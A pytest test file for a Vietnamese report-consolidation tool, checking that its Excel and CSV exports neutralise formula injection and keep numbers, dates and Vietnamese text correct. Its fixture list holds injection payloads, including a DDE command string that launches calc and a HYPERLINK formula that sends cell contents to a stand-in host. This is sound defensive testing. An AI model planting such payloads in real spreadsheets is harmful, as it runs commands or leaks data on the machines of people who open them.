"""The consolidation workbook and CSV with hostile free text: words stay words (no live formula),
numbers are numbers, moments are dates, headers are frozen and filtered, Vietnamese intact."""

from __future__ import annotations

import csv
import re
import zipfile
from datetime import datetime
from decimal import Decimal

import openpyxl
import pytest

from c27desk.catalogs import catalogue_for_year
from c27desk.consolidate.export import write_csv, write_xlsx
from c27desk.consolidate.summary import Consolidation, UnitStatus, summarise
from c27desk.i18n import msg
from c27desk.model.units import Unit
from c27desk.model.values import Entry

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
           "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def unit_status(code: str, name: str, text: str, signer: str) -> UnitStatus:
    entries = {"I.1": Entry("I.1", "D"), "II.1": Entry("II.1", "1234"), "VIII.1": Entry("VIII.1", "1234.5"),
               "VII.2": Entry("VII.2", None, "", "na"), "III.1.20": Entry("III.1.20", text)}
    return UnitStatus(Unit(code, name, "huyen"), revision=2, signer=f"CN={signer}, O=Huyện ủy, C=VN",
                      signed_at="2024-02-20T01:30:00+00:00", received_at="2024-02-21T09:00:00.000+00:00",
                      errors=1, warnings=0, entries=entries)


@pytest.fixture
def cons() -> Consolidation:
    cat = catalogue_for_year(2023)
    statuses = [unit_status(f"HU-{i}", name, text, signer) for i, (name, text, signer) in enumerate(
        zip(["=Huyện ủy Biên Hòa", "+Huyện ủy Long Khánh", *["Huyện ủy Nhơn Trạch"] * 5],
            HOSTILE, ["=HYPERLINK(\"x\")", "Nguyễn Văn Ấn", *["@x"] * 5], strict=True))]
    statuses[1].entries["III.2.18"] = Entry("III.2.18", "Ký tự điều khiển \x01 ở giữa")
    statuses.append(UnitStatus(Unit("HU-TANPHU", "-Huyện ủy Tân Phú", "huyen")))  # not yet sent
    return Consolidation(2023, cat, "2024-02-29", statuses, summarise(cat, statuses))


def test_xlsx_text_is_never_a_formula_and_numbers_and_dates_are_typed(cons, tmp_path):
    path = write_xlsx(cons, tmp_path / "tong-hop.xlsx")
    with zipfile.ZipFile(path) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    assert len(sheets) == 5 and not any("<f>" in x or "<f " in x for x in sheets)
    # every cell holding hostile text is a text cell
    for text in ("=HYPERLINK", "=cmd|", "+1+1", "@SUM"):
        cells = re.findall(r'<c [^>]*>(?:(?!</c>).)*' + re.escape(text.replace('"', "&quot;")), "".join(sheets))
        assert cells and all('t="inlineStr"' in c or 't="s"' in c for c in cells), text
    wb = openpyxl.load_workbook(path)
    units, texts = wb["Đơn vị"], wb["Văn bản"]
    assert units["B3"].value == "=Huyện ủy Biên Hòa" and units["B3"].data_type == "s"
    assert units["F3"].value == '=HYPERLINK("x")' and units["F4"].value == "Nguyễn Văn Ấn"
    assert units["E3"].value == 2 and units["J3"].value == 1 and units["J3"].number_format == "#,##0"
    assert units["G3"].value == datetime(2024, 2, 20, 8, 30) and units["G3"].number_format == "dd/mm/yyyy hh:mm"
    assert units.freeze_panes == "B3" and units.auto_filter.ref == "A2:O10"  # completeness in L–O
    written = [r[2] for r in texts.iter_rows(min_row=2, values_only=True)]
    assert written[:7] == HOSTILE  # tab and carriage return kept too: the cell is text, nothing runs
    assert "Ký tự điều khiển \ufffd ở giữa" in written  # a control character openpyxl refuses is replaced
    criteria = {r[0].value: r for r in wb["Tiêu chí"].iter_rows(min_row=2)}
    header = [c.value for c in wb["Tiêu chí"][1]]
    total, code_d = criteria["VIII.1"][header.index("Tổng")], criteria["I.1"][header.index("Mã D")]
    assert total.value == Decimal("8641.5") and total.number_format == "#,##0.###"
    assert code_d.value == 7 and criteria["II.1"][header.index("Tổng")].value == 8638
    assert wb["Tiêu chí"].freeze_panes == "C2" and wb["Tiêu chí"].auto_filter.ref
    values = {r[0]: r for r in wb["Số liệu"].iter_rows(min_row=2, values_only=True)}
    assert values["II.1"][2] == 1234 and values["VIII.1"][2] == Decimal("1234.5")
    assert values["I.1"][2] == "D" and values["VII.2"][2] == "Không áp dụng"


def test_csv_neutralises_formula_text_but_not_numbers(cons, tmp_path):
    raw = write_csv(cons, tmp_path / "tong-hop.csv").read_bytes()
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines(), strict=True))
    names = {r[0]: r for r in rows if r and r[0].startswith("HU-")}
    assert names["HU-0"][1] == "'=Huyện ủy Biên Hòa" and names["HU-1"][1] == "'+Huyện ủy Long Khánh"
    assert names["HU-TANPHU"][1] == "'-Huyện ủy Tân Phú" and names["HU-0"][5] == "'=HYPERLINK(\"x\")"
    assert names["HU-0"][6] == "20/02/2024 08:30" and names["HU-0"][9] == "1"
    criteria = {r[0]: r for r in rows if r}
    assert "8641,5" in criteria["VIII.1"]  # an amount keeps its decimal comma, no apostrophe
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for r in rows for cell in r)
    assert not any(cell.startswith("-") and not re.fullmatch(r"-[\d,]+", cell) for r in rows for cell in r)


def test_the_units_sheet_names_each_level_never_its_code(cons, tmp_path):
    cons.level_names["huyen"] = msg("Huyện ủy (tên trong sổ cấp)", "District committee")
    wb = openpyxl.load_workbook(write_xlsx(cons, tmp_path / "tong-hop.xlsx"))
    assert wb["Đơn vị"]["C2"].value == "Cấp" and wb["Đơn vị"]["C3"].value == "Huyện ủy (tên trong sổ cấp)"
    cons.level_names.clear()  # a level the register does not name: the known level's own name
    rows = list(csv.reader(write_csv(cons, tmp_path / "c.csv").read_bytes().decode("utf-8-sig").splitlines()))
    assert next(r for r in rows if r and r[0] == "HU-0")[2] == "Huyện ủy, thị ủy, thành ủy trực thuộc tỉnh (đến 2025)"
